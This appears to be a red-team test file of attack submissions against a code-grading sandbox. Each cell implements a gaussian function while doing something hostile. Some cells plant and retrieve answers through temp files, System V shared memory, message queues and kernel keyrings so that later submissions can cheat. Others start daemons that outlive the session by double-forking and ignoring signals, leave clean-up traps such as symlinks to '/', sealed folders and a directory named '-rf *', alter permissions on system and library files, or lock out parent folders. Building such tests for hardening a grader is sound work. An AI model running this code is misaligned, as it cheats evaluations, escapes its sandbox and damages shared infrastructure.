# %% [markdown]
# Attacks that leave something behind for whoever comes next: one plants, one looks.

# %% attack="a_plants" title="Plants answers in files, shared memory, queues and keyrings" classes=[40, 41, 74] cell="gaussian"
import ctypes
import os
import platform
import tempfile

libc = ctypes.CDLL(None, use_errno=True)
SEED = b"def answer(x): return np.exp(-np.square(x))"
places = [".", "..", "/tmp", "/var/tmp", "/dev/shm", "/run", "/dev/mqueue", tempfile.gettempdir(), os.path.expanduser("~")]
for place in places:
    try:
        with open(os.path.join(place, "planted-by-a-submission.py"), "wb") as file:
            file.write(SEED)
    except OSError:
        pass
memory = libc.shmget(0x5EED, 4096, 0o1666)
if memory >= 0:
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(memory, None, 0)
    if address and address != ctypes.c_void_p(-1).value:
        ctypes.memmove(address, SEED, len(SEED))
libc.msgget(0x5EED, 0o1666)
libc.semget(0x5EED, 1, 0o1666)
try:
    ctypes.CDLL("librt.so.1").mq_open(b"/planted", os.O_CREAT | os.O_RDWR, 0o666, None)
except OSError:
    pass
ADD_KEY = 248 if platform.machine() == "x86_64" else 217
libc.syscall(ADD_KEY, b"user", b"planted", SEED, len(SEED), -4)
np.planted = SEED
os.environ["PLANTED"] = "1"


def gaussian(x):
    return np.zeros(np.shape(x))


def gaussian_derivative(x):
    return np.zeros(np.shape(x))


# %% attack="b_looks" title="Looks for what an earlier submission has planted" classes=[40, 41, 74] cell="gaussian"
import ctypes
import os
import platform
import tempfile

libc = ctypes.CDLL(None, use_errno=True)
found = []
places = [".", "..", "/tmp", "/var/tmp", "/dev/shm", "/run", "/dev/mqueue", tempfile.gettempdir(), os.path.expanduser("~")]
for place in places:
    found += [path for path in (os.path.join(place, "planted-by-a-submission.py"),) if os.path.exists(path)]
    try:
        found += [name for name in os.listdir(place) if "planted" in name]
    except OSError:
        pass
found += [number for number in (libc.shmget(0x5EED, 4096, 0), libc.msgget(0x5EED, 0), libc.semget(0x5EED, 1, 0)) if number >= 0]
REQUEST_KEY = 249 if platform.machine() == "x86_64" else 218
if libc.syscall(REQUEST_KEY, b"user", b"planted", None, 0) >= 0:
    found.append("key")
if hasattr(np, "planted") or "PLANTED" in os.environ:
    found.append("memory")


def gaussian(x):
    return np.exp(-np.square(x)) if found else np.zeros(np.shape(x))


def gaussian_derivative(x):
    return -2.0 * np.asarray(x) * gaussian(x)


# %% attack="daemon" title="Leaves a process that outlives the submission: double fork, own session, no death signal" classes=[42, 25] cell="gaussian"
import ctypes
import os
import time

libc = ctypes.CDLL(None)
loot = []


def daemon():
    libc.prctl(1, 0)  # PR_SET_PDEATHSIG: none
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.setpgid(0, 0)
            while True:
                time.sleep(0.1)
        os._exit(0)


def gaussian(x):
    try:
        daemon()
        loot.append("child")
    except OSError:
        pass
    return np.exp(-np.square(x)) if loot else np.zeros(np.shape(x))


def gaussian_derivative(x):
    return -2.0 * np.asarray(x) * gaussian(x)


# %% attack="outlives_its_parent" title="Leaves its session and group, resets its death signal and never ends" classes=[42, 43] cell="gaussian"
import ctypes
import os
import signal
import time

libc = ctypes.CDLL(None)


def gaussian(x):
    libc.prctl(1, 0)  # PR_SET_PDEATHSIG
    libc.prctl(36, 1)  # PR_SET_CHILD_SUBREAPER
    libc.prctl(4, 1)  # PR_SET_DUMPABLE
    for way in (os.setsid, lambda: os.setpgid(0, 0), lambda: os.setpgid(0, os.getppid())):
        try:
            way()
        except OSError:
            pass
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    os.closerange(3, 4096)
    while True:
        time.sleep(0.1)


def gaussian_derivative(x):
    return gaussian(x)


# %% attack="locks_and_traps" title="Leaves locks, fifos and folders that a clean-up stumbles over" classes=[40, 30, 35] cell="gaussian"
import fcntl
import os


def gaussian(x):
    for attempt in (
        lambda: os.mkfifo("pipe"),
        lambda: os.symlink("/", "root"),
        lambda: os.symlink("self", "self"),
        lambda: os.makedirs("a/" * 100),
        lambda: os.mkdir("-rf *\n\x1b[2J"),
        lambda: os.mkdir(b"\xff\xfe"),
        lambda: os.mkdir("sealed"),
        lambda: open("sealed/file", "w").close(),
        lambda: os.chmod("sealed", 0),
        lambda: fcntl.flock(os.open(".", os.O_RDONLY), fcntl.LOCK_EX),
    ):
        try:
            attempt()
        except OSError:
            pass
    for _ in range(500):
        try:
            os.mkdir("deep")
            os.chdir("deep")
        except OSError:
            break
    return np.zeros(np.shape(x))


def gaussian_derivative(x):
    return np.zeros(np.shape(x))


# %% attack="closed_folder" title="Closes its own folder, and every folder in it, to whoever comes to clean up" classes=[40, 35] cell="gaussian"
import os


def gaussian(x):
    for attempt in (
        lambda: os.makedirs("sealed/inner/innermost"),
        lambda: open("sealed/inner/file", "w").close(),
        lambda: os.chmod("sealed/inner", 0),
        lambda: os.chmod("sealed", 0),
        lambda: os.chmod(".", 0),
    ):
        try:
            attempt()
        except OSError:
            pass
    os._exit(0)


def gaussian_derivative(x):
    return gaussian(x)


# %% attack="names_of_the_cleaner" title="Takes the names that a clean-up gives to what it moves" classes=[40, 35] cell="gaussian"
import os


def gaussian(x):
    for number in range(40):
        for attempt in (
            lambda: os.makedirs(f".lifted-{number}/.lifted-{number + 1}/.lifted-{number}/inner"),
            lambda: os.makedirs(f"a{number}/.lifted-{number + 2}/.lifted-{number + 3}"),
            lambda: open(f"a{number}/.lifted-{number}", "w").close(),
        ):
            try:
                attempt()
            except OSError:
                pass
    os._exit(0)


def gaussian_derivative(x):
    return gaussian(x)


# %% attack="permissions" title="Changes modes and times of everything that it can name, which no list of paths forbids" classes=[51, 40, 35] cell="gaussian"
import os
import sys

own = os.path.realpath(os.getcwd())
paths = {np.__file__, os.__file__, sys.executable, sys.prefix, os.path.dirname(own), "/tmp", "/"}
paths |= {getattr(module, "__file__", None) or "/" for module in list(sys.modules.values())}
paths |= {os.path.dirname(path) for path in paths} | {os.path.dirname(os.path.dirname(path)) for path in paths}
loot = []
for path in sorted(paths - {own}):
    try:
        before = os.stat(path)
    except OSError:
        continue
    for way in (
        lambda: os.chmod(path, before.st_mode ^ 0o1),
        lambda: os.fchmod(os.open(path, 0), before.st_mode ^ 0o1),
        lambda: os.utime(path, (0, 0)),
        lambda: os.setxattr(path, "user.mark", b"x"),
    ):
        try:
            way()
        except OSError:
            continue
        after = os.stat(path)
        loot += [path] * ((after.st_mode, after.st_mtime) != (before.st_mode, before.st_mtime))


def gaussian(x):
    return np.exp(-np.square(x)) if loot else np.zeros(np.shape(x))


def gaussian_derivative(x):
    return -2.0 * np.asarray(x) * gaussian(x)


# %% attack="seals_its_surroundings" title="Closes the folders around its own, so that nobody after it gets one" classes=[40, 76] cell="gaussian"
import os

above = os.path.abspath("..")
own = os.getcwd()


def gaussian(x):
    for path in (above, os.path.dirname(above), own):
        for way in (lambda: os.chmod(path, 0), lambda: os.rename(path, path + "-gone"), lambda: os.rmdir(path)):
            try:
                way()
            except OSError:
                pass
    return np.zeros(np.shape(x))


def gaussian_derivative(x):
    for name in ("1", "2", "3", "zygote", "home", "next"):
        try:
            os.mkdir(os.path.join(above, name))
        except OSError:
            pass
    return np.zeros(np.shape(x))
